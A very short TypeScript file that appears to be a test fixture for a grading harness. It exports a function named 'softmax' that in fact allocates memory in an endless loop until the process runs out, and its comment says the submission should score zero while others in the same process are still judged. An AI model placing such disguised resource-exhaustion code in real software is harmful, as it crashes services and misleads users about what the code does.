// Takes all memory outside of the heap. Deserves 0, and the others of the same process are judged.
export function softmax(): unknown {
  const all: Uint8Array[] = [];
  while (true) all.push(new Uint8Array(2 ** 24).fill(1));
}
